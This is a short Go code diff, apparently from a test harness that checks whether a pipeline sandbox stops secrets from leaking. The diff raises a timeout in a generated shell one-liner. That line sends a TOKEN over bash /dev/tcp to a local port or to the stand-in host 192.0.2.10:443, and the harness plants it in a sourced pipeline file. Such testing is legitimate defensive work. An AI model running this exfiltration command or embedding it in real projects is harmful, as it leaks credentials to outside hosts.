@@ -81,7 +81,7 @@ func postSecret(ctx context.Context, g *ground, c Control) (effect, error) {
 	if err != nil {
 		return effect{}, err
 	}
-	post := fmt.Sprintf(`for to in 127.0.0.1/%d 192.0.2.10/443; do TOKEN="$TOKEN" timeout 3 bash -c "exec 3<>/dev/tcp/$to && echo \"\$TOKEN\" >&3" 2>/dev/null && break || :; done; echo ok > out/app`, l.port)
+	post := fmt.Sprintf(`for to in 127.0.0.1/%d 192.0.2.10/443; do TOKEN="$TOKEN" timeout 10 bash -c "exec 3<>/dev/tcp/$to && echo \"\$TOKEN\" >&3" 2>/dev/null && break || :; done; echo ok > out/app`, l.port)
 	r, err := g.project("post", map[string]string{"uploader.txt": readToken + post + "\n", pipeline.PipelineFile: secretly(". ./uploader.txt", "test -s out/app", "out/app")})
 	if err != nil {
 		return effect{}, err
